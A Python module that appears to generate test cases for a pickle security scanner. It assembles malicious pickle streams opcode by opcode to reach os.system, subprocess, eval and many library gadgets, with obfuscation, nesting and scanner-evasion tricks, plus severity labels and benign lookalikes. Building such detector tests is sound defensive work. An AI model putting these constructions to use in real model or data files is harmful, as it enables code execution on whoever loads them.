"""Pickles, assembled opcode by opcode: what attackers write, and what only looks so."""
import base64
import struct

from case import Case

CRITICAL, HIGH, MEDIUM, BENIGN = "critical", "high", "medium", "benign"


def proto(version):
    return b"\x80" + bytes([version])


def name(module, attribute):
    """GLOBAL."""
    return b"c" + module.encode() + b"\n" + attribute.encode() + b"\n"


def text(value):
    """SHORT_BINUNICODE or BINUNICODE."""
    raw = value.encode()
    return b"\x8c" + bytes([len(raw)]) + raw if len(raw) < 256 else b"X" + struct.pack("<I", len(raw)) + raw


def octets(value):
    """BINBYTES."""
    return b"B" + struct.pack("<I", len(value)) + value


def stack_name(module, attribute):
    """STACK_GLOBAL of two constants."""
    return text(module) + text(attribute) + b"\x93"


def item(value):
    """A constant or, as octets, opcodes that push something."""
    if isinstance(value, bytes):
        return value
    if isinstance(value, str):
        return text(value)
    if value is None:
        return b"N"
    if isinstance(value, bool):
        return b"\x88" if value else b"\x89"
    if isinstance(value, int):
        return b"J" + struct.pack("<i", value)
    if isinstance(value, tuple):
        return b"(" + b"".join(map(item, value)) + b"t"
    if isinstance(value, list):
        return b"](" + b"".join(map(item, value)) + b"e"
    if isinstance(value, dict):
        return b"}(" + b"".join(item(k) + item(v) for k, v in value.items()) + b"u"
    raise TypeError(value)


def call(module, attribute, *arguments):
    """GLOBAL, a tuple, REDUCE."""
    return name(module, attribute) + item(tuple(arguments)) + b"R"


def new(module, attribute, *arguments):
    """GLOBAL, a tuple, NEWOBJ."""
    return name(module, attribute) + item(tuple(arguments)) + b"\x81"


def stream(body, version=4):
    return proto(version) + body + b"."


SYSTEM = call("os", "system", "id")


def opcodes():
    """The same call by every way that the machine has, and what confuses readers of opcodes."""
    yield "reduce", b"cposix\nsystem\n(S'id'\ntR."
    yield "reduce_without_proto", b"N0" + SYSTEM + b"."
    yield "inst", b"(S'id'\nios\nsystem\n."
    yield "obj", b"(cos\nsystem\nS'id'\no."
    yield "newobj", stream(new("subprocess", "Popen", ["id"]))
    yield "newobj_ex", stream(name("subprocess", "Popen") + item((["id"],)) + item({"shell": True}) + b"\x92")
    yield "stack_global", stream(stack_name("os", "system") + item(("id",)) + b"R")
    yield "escaped_string", stream(b"S'\\x6f\\x73'\nS'sys\\164em'\n\x93" + item(("id",)) + b"R")
    yield "escaped_unicode", stream(b"V\\u006fs\nVs\\u0079stem\n\x93" + item(("id",)) + b"R")
    yield "duplicated", stream(text("os") + b"20" + text("system") + b"\x93" + item(("id",)) + b"R")
    yield "memo_overwritten", stream(b"\x8c\x04mathq\x000\x8c\x02osq\x000h\x00" + text("system") + b"\x93"
                                     + item(("id",)) + b"R")
    yield "memoize_after_put", stream(text("os") + b"q\x09" + text("system") + b"\x940" + b"0h\x09h\x01\x93"
                                      + item(("id",)) + b"R")
    yield "get_with_spaces", b"Vos\np07\n0Vsystem\np8\n0g 7\ng+8 \n\x93(Vid\ntR."
    yield "get_with_underscores", b"Vos\np1_0\n0Vsystem\np11\n0g10\ng1_1\n\x93(Vid\ntR."
    yield "mark_popped", stream(b"(0" + SYSTEM)
    yield "mark_thrown_away", stream(b"(NNN1" + SYSTEM)
    yield "result_thrown_away", stream(SYSTEM + b"0N")
    yield "result_in_a_list", stream(b"](" + SYSTEM + b"e")
    yield "result_as_key", stream(b"}" + SYSTEM + b"Ns")
    yield "arguments_of_another_call", stream(call("collections", "OrderedDict", SYSTEM))
    yield "arguments_as_a_list", b"cos\nsystem\n]S'id'\naR."
    yield "extension_registered_here", b"ccopyreg\nadd_extension\n(S'os'\nS'system'\nI7\ntR0\x82\x07(S'id'\ntR."
    yield "extension_unknown", stream(b"\x83\x34\x12" + item(("id",)) + b"R")
    yield "extension_of_four_octets", stream(b"\x84\x01\x00\x00\x00" + item(("id",)) + b"R")
    yield "dotted_name", stream(stack_name("shutil", "os.system") + item(("id",)) + b"R")
    yield "dotted_name_textual", stream(name("torch", "_utils.os.system") + item(("id",)) + b"R")
    yield "dotted_through_call", stream(stack_name("builtins", "eval.__call__") + item(("1",)) + b"R")
    yield "python2_builtin", b"c__builtin__\neval\n(S'1'\ntR."
    yield "python2_commands", b"ccommands\ngetoutput\n(S'id'\ntR."
    yield "python2_urllib2", b"curllib2\nurlopen\n(S'http://example.invalid'\ntR."
    yield "python2_copy_reg", b"ccopy_reg\n_reconstructor\n(csubprocess\nPopen\nc__builtin__\nobject\nNtR."
    yield "name_by_a_call", stream(text("os") + call("codecs", "decode", "flfgrz", "rot13") + b"\x93"
                                   + item(("id",)) + b"R")
    yield "name_by_an_attribute", stream(name("os", "name") + text("system") + b"\x93" + item(("id",)) + b"R")
    yield "result_called", stream(call("builtins", "getattr", name("shutil", "os"), "system") + item(("id",)) + b"R")
    yield "persistent_called", b"P0\n(S'id'\ntR."
    yield "protocol_changed_midway", b"\x80\x04N0\x80\x02c__builtin__\neval\n(S'1'\ntR."
    yield "protocol_0_text", b"(dp0\nS'a'\np1\ncos\nsystem\np2\n(S'id'\np3\ntp4\nRp5\ns."
    yield "frame_that_lies", proto(4) + b"\x95" + struct.pack("<Q", 3) + SYSTEM + b"."
    yield "frame_of_nothing", proto(4) + b"\x95" + struct.pack("<Q", 0) + SYSTEM + b"."
    yield "buffers", stream(b"\x97\x980" + SYSTEM, 5)
    yield "behind_octets", stream(octets(b"\x00" * 100_000) + b"0" + SYSTEM)
    yield "behind_many_opcodes", b"N0" * 50_000 + SYSTEM + b"."


def patches():
    yield "attribute_of_a_function", (stream(name("numpy", "size") + item((None, {"shape": name("numpy", "__builtins__")}))
                                             + b"b0" + stack_name("numpy", "size.shape") + text("eval") + b"\x93"))
    yield "attribute_of_a_module", stream(name("torch", "_utils") + item({"_rebuild_tensor": "eval"}) + b"b")
    yield "item_of_sys_modules", stream(name("sys", "modules") + item("torch") + SYSTEM + b"s")
    yield "append_to_sys_path", stream(name("sys", "path") + item("/tmp") + b"a")
    yield "environment", stream(name("os", "environ") + item("LD_PRELOAD") + item("/tmp/a.so") + b"s")
    yield "dispatch_table", stream(name("copyreg", "dispatch_table") + item("a") + item("b") + b"s")
    yield "class_of_an_instance", (stream(new("collections", "OrderedDict") + item((None, {"__class__": name("os", "system")}))
                                          + b"b"))


STDLIB = [
    ("builtins", "eval", ("1",)), ("builtins", "exec", ("1",)), ("builtins", "compile", ("1", "", "exec")),
    ("builtins", "__import__", ("os",)), ("builtins", "open", ("/tmp/a", "w")), ("builtins", "print", ("a",)),
    ("subprocess", "check_output", (["id"],)), ("importlib", "import_module", ("os",)),
    ("pkgutil", "resolve_name", ("os:system",)), ("pydoc", "locate", ("os.system",)),
    ("runpy", "run_path", ("/tmp/a.py",)), ("pty", "spawn", ("/bin/sh",)), ("code", "interact", ()),
    ("timeit", "timeit", ("1",)), ("cProfile", "run", ("1",)), ("pdb", "run", ("1",)), ("trace", "Trace", ()),
    ("ctypes", "CDLL", ("/tmp/a.so",)), ("socket", "create_connection", (("example.invalid", 80),)),
    ("urllib.request", "urlopen", ("http://example.invalid",)), ("webbrowser", "open", ("http://example.invalid",)),
    ("asyncio.unix_events", "_UnixSubprocessTransport._start", ("id",)), ("shutil", "rmtree", ("/tmp/a",)),
    ("tempfile", "mkstemp", ()), ("logging.config", "dictConfig", ({},)), ("logging", "FileHandler", ("/tmp/a",)),
    ("xmlrpc.server", "resolve_dotted_attribute", ("a", "b")), ("_aix_support", "_read_cmd_output", ("id",)),
    ("_osx_support", "_find_build_tool", ("cc",)), ("_pyrepl.pager", "pipe_pager", ("a", "id")),
    ("uuid", "_get_command_stdout", ("id",)), ("imaplib", "IMAP4_stream", ("id",)), ("distutils.spawn", "spawn", (["id"],)),
    ("lib2to3.pgen2.grammar", "Grammar.loads", ({}, "")), ("idlelib.calltip", "get_entity", ("1",)),
    ("functools", "reduce", ("a", "b")), ("types", "CodeType", (0,)), ("marshal", "loads", ("a",)),
    ("pickle", "loads", ("a",)), ("multiprocessing.util", "spawnv_passfds", ("/bin/id", ["id"], [])),
    ("smtplib", "SMTP", ("example.invalid",)), ("zipfile", "ZipFile", ("/tmp/a.zip",)), ("unittest.mock", "_importer", ("os",)),
    ("platform", "popen", ("id",)), ("doctest", "script_from_examples", ("a",)), ("ensurepip", "bootstrap", ()),
    ("pip", "main", (["install", "a"],)), ("concurrent.futures", "ThreadPoolExecutor", ()), ("sys", "settrace", (None,)),
    ("stat", "filemode", (1,)),
]
LIBRARIES = [
    ("numpy", "load", ("/tmp/a.npy",)), ("numpy.testing._private.utils", "runstring", ("1", {})),
    ("numpy.f2py.crackfortran", "getlincoef", ("1", [])), ("numpy.core", "_ufunc_reconstruct", ("os", "system")),
    ("pandas", "read_csv", ("http://example.invalid/a.csv",)), ("pandas.core.computation.eval", "eval", ("1",)),
    ("joblib", "load", ("/tmp/a",)), ("sklearn.datasets", "fetch_openml", ("a",)), ("scipy.io", "loadmat", ("/tmp/a",)),
    ("torch", "load", ("/tmp/a",)), ("torch.hub", "load", ("a/b", "c")), ("torch.utils.collect_env", "run", ("id",)),
    ("torch.jit", "load", ("/tmp/a",)), ("torch.utils.cpp_extension", "load", ("a", "b")),
    ("torch.serialization", "os.system", ("id",)), ("torch._inductor.codecache", "compile_file", ("a",)),
    ("torch.fx.graph_module", "_exec_with_source", ("1", {})), ("torch._dynamo.guards", "GuardBuilder.get", ({}, "1")),
    ("mlflow.projects.backend.local", "_run_entry_point", ("id", "/tmp", "a", "b")), ("transformers", "pipeline", ("a",)),
    ("cloudpickle.cloudpickle", "_builtin_type", ("CodeType",)), ("dill._dill", "_create_function", ("a",)),
    ("dill._dill", "_import_module", ("os",)), ("yaml", "unsafe_load", ("a",)), ("requests", "get", ("http://example.invalid",)),
    ("some.package", "run_command", ("id",)), ("keras.models", "load_model", ("a",)), ("IPython", "start_ipython", ()),
]


def callbacks():
    yield "default_factory", stream(call("collections", "defaultdict", name("os", "system")))
    yield "partial", stream(call("functools", "partial", name("os", "system"), "id"))
    yield "partial_by_state", stream(new("functools", "partial", name("builtins", "int"))
                                     + item((name("os", "system"), ("id",), {}, None)) + b"b")
    yield "mapped", stream(call("builtins", "map", name("os", "system"), ["id"]))
    yield "starmap", stream(call("itertools", "starmap", name("os", "system"), [("id",)]))
    yield "methodcaller", stream(call("operator", "methodcaller", "system", "id") + item((name("shutil", "os"),)) + b"R")
    yield "attrgetter", stream(call("operator", "attrgetter", "system") + item((name("shutil", "os"),)) + b"R")
    yield "rebuilt_from_type", stream(call("torch._utils", "_rebuild_wrapper_subclass", name("os", "system")))
    yield "class_made", stream(call("builtins", "type", "A", (), {}))
    yield "only_named", stream(name("os", "system"))


def others():
    inner = stream(SYSTEM)
    yield "nested_raw", stream(octets(inner)), HIGH
    yield "nested_hex", stream(text(inner.hex())), HIGH
    yield "nested_base64", stream(text(base64.b64encode(inner).decode())), HIGH
    yield "nested_twice", stream(octets(stream(octets(inner)))), HIGH
    yield "nested_protocol_0", stream(octets(b"cos\nsystem\n(S'id'\ntR.")), HIGH
    yield "loaded_by_torch", stream(call("torch.storage", "_load_from_bytes", octets(inner))), CRITICAL
    yield "second_stream", b"N." + inner, CRITICAL
    yield "fifth_stream", stream(b"N") * 4 + inner, CRITICAL
    yield "appended", stream(b"N") + b"\x00" * 300 + inner, CRITICAL
    yield "behind_an_error", stream(b"N")[:-1] + b"\xff" * 3 + inner, CRITICAL
    yield "before_an_error", stream(SYSTEM)[:-1] + b"\xff\xff", CRITICAL
    yield "before_the_end", stream(SYSTEM)[:-1], CRITICAL
    yield "then_a_type_error", stream(SYSTEM + b"0K\x01K\x02\x93"), CRITICAL
    yield "then_a_missing_memo", stream(SYSTEM + b"0h\x63"), CRITICAL
    yield "then_an_underflow", stream(SYSTEM + b"000"), CRITICAL
    yield "then_a_bad_protocol", stream(SYSTEM + b"\x80\x09"), CRITICAL
    wrapper = (proto(2) + name("joblib.numpy_pickle", "NumpyArrayWrapper") + b")\x81"
               + item({"shape": (3,), "dtype": call("numpy", "dtype", "f8", False, True)}) + b"b")
    yield "behind_a_joblib_array", wrapper + b"\x00" * 24 + b"0" + SYSTEM + b".", CRITICAL
    yield "within_a_joblib_array", wrapper + (b"0" + SYSTEM + b".").ljust(24, b"\x00") + b".", CRITICAL
    objects = (proto(2) + name("joblib.numpy_pickle", "NumpyArrayWrapper") + b")\x81"
               + item({"shape": (1,), "dtype": call("numpy", "dtype", "O8", False, True)}) + b"b")
    yield "joblib_array_of_objects", objects + inner + b".", CRITICAL
    yield "memo_index", b"Nr\xff\xff\xff\x3f.", HIGH
    yield "length", stream(b"\x8e" + struct.pack("<Q", 2**63 - 1)), HIGH
    yield "digits", b"I" + b"9" * 400_000 + b"\n.", MEDIUM
    yield "depth", b"]" * 200_000 + b"a" * 199_999 + b".", MEDIUM
    yield "unknown_class", stream(new("some.package", "Model")), MEDIUM


def dtype(code):
    return call("numpy", "dtype", code, False, True) + item((3, "<", None, None, None, -1, -1, 0)) + b"b"


def array(code, shape, raw):
    return (call("numpy.core.multiarray", "_reconstruct", name("numpy", "ndarray"), (0,), octets(b"b"))
            + item((1, shape, dtype(code), False, octets(raw))) + b"b")


def tensor(key, size):
    storage = b"(" + text("storage") + name("torch", "FloatStorage") + text(key) + text("cpu") + item(size) + b"tQ"
    return call("torch._utils", "_rebuild_tensor_v2", storage, 0, (size,), (1,), False, call("collections", "OrderedDict"))


def benign():
    yield "plain", stream(item({"a": [1, 2, None, True], "b": ("x", 2)}))
    yield "protocol_0", b"(dp0\nVa\np1\n(lp2\nI1\naF1.5\nas."
    yield "strings_of_exploits", stream(item(["os.system('id')", "__import__('os')", "eval", "cos\nsystem\n(S'id'\ntR."]))
    yield "keys_of_exploits", stream(item({"os": 1, "system": 2, "eval": 3, "subprocess": 4, "builtins": 5}))
    yield "vocabulary", stream(item({f"exec{i}": i for i in range(500)}))
    yield "ordered", stream(call("collections", "OrderedDict") + item("a") + item(1) + b"s")
    yield "counter", stream(call("collections", "Counter", {"os.system": 2}))
    yield "default_list", stream(call("collections", "defaultdict", name("builtins", "list")))
    yield "deque", stream(call("collections", "deque", [], 3) + b"(" + item(1) + b"e")
    yield "copyreg_protocol_0", (b"ccopy_reg\n_reconstructor\n(csklearn.svm._classes\nSVC\nc__builtin__\nobject\nNtR"
                                 b"(dVC\nF1.0\nsb.")
    yield "uuid", stream(new("uuid", "UUID") + item({"int": 7}) + b"b")
    yield "http_status", stream(call("http", "HTTPStatus", 200))
    yield "http_status_by_attribute", stream(call("builtins", "getattr", name("http", "HTTPStatus"), "OK"))
    yield "itemgetter", stream(call("operator", "itemgetter", 1))
    yield "pattern", stream(call("re", "_compile", "os\\.system\\(.*\\)", 32))
    yield "logger", stream(call("logging", "getLogger", "os.system"))
    yield "partial_of_int", stream(call("functools", "partial", name("builtins", "int"))
                                   + item((name("builtins", "int"), (), {"base": 2}, None)) + b"b")
    yield "date", stream(call("datetime", "datetime", octets(b"\x07\xe4\x01\x01\x00\x00\x00\x00\x00\x00")))
    yield "decimal", stream(call("decimal", "Decimal", "1.5"))
    yield "path", stream(call("pathlib", "PosixPath", "/", "etc", "passwd"))
    yield "octets_of_protocol_2", stream(call("_codecs", "encode", "\xff\x00", "latin1"), 2)
    yield "set_of_protocol_2", stream(call("__builtin__", "set", [1, 2]), 2)
    yield "none_type", stream(call("builtins", "type", None))
    yield "exception", stream(call("builtins", "OSError", 2, "no such file"))
    yield "complex", stream(call("builtins", "complex", 1, 2))
    yield "array", stream(array("f4", (2,), b"\x00" * 8))
    yield "numpy_scalar", stream(call("numpy.core.multiarray", "scalar", dtype("f8"), octets(b"\x00" * 8)))
    yield "numpy_generator", stream(call("numpy.random._pickle", "__randomstate_ctor", "MT19937"))
    yield "function_kept", stream(new("sklearn.preprocessing._function_transformer", "FunctionTransformer")
                                  + item({"func": name("numpy", "log1p")}) + b"b")
    yield "pipeline", stream(new("sklearn.pipeline", "Pipeline") + item(
        {"steps": [("eval", new("sklearn.preprocessing._data", "StandardScaler") + item({"mean_": array("f8", (1,), b"\x00" * 8)})
                    + b"b"), ("exec", new("sklearn.svm._classes", "SVC") + item({"kernel": "rbf"}) + b"b")]}) + b"b")
    yield "tree", stream(call("sklearn.tree._tree", "Tree", 4, array("i8", (1,), b"\x02" + b"\x00" * 7), 1))
    yield "index", stream(call("pandas.core.indexes.base", "_new_Index", name("pandas.core.indexes.base", "Index"),
                               {"data": array("i8", (1,), b"\x00" * 8), "name": None}))
    yield "state_dict", stream(call("collections", "OrderedDict") + b"(" + item("lambda_1.weight") + tensor("0", 4)
                               + item("exec.bias") + tensor("1", 4) + b"u", 2)
    yield "module", stream(new("torch.nn.modules.linear", "Linear") + item({"in_features": 4}) + b"b", 2)
    yield "optimiser_state", stream(item({"state": {0: {"exp_avg": tensor("2", 4)}}, "param_groups": [{"lr": 1}]}), 2)
    yield "joblib_array", (proto(2) + name("joblib.numpy_pickle", "NumpyArrayWrapper") + b")\x81"
                           + item({"subclass": name("numpy", "ndarray"), "shape": (3,), "order": "C", "dtype": dtype("f8"),
                                   "allow_mmap": True, "numpy_array_alignment_bytes": 16}) + b"b"
                           + b"\x03\xff\xff\xff" + b"cos\nsystem\n(S'id'\ntR.!!!" + b".")
    yield "several", stream(item(1)) + stream(item("a")) + stream(item(None))
    yield "text_like", b"I42\n."
    yield "nested_data", stream(octets(stream(item({"a": 1}))))


def cases():
    for technique, made in opcodes():
        yield Case(f"opcode_{technique}.pkl", "pickle: opcodes, memo, stack", HIGH, made)
    for technique, made in patches():
        yield Case(f"patch_{technique}.pkl", "pickle: BUILD and items on imports", HIGH, made)
    for module, attribute, arguments in STDLIB:
        yield Case(f"stdlib_{module}.{attribute}.pkl", "pickle: gadgets of the standard library", HIGH,
                   stream(stack_name(module, attribute) + item(arguments) + b"R"))
    for module, attribute, arguments in LIBRARIES:
        yield Case(f"library_{module}.{attribute}.bin", "pickle: gadgets of libraries", HIGH,
                   stream(call(module, attribute, *arguments)))
    for technique, made in callbacks():
        yield Case(f"callback_{technique}.dat", "pickle: handed over to be called", HIGH, made)
    for technique, made, expected in others():
        yield Case(f"other_{technique}.pkl", "pickle: streams, nesting, damage, cost", expected, made)
    for technique, made in benign():
        yield Case(f"benign_{technique}.pkl", "pickle: benign", BENIGN, made)
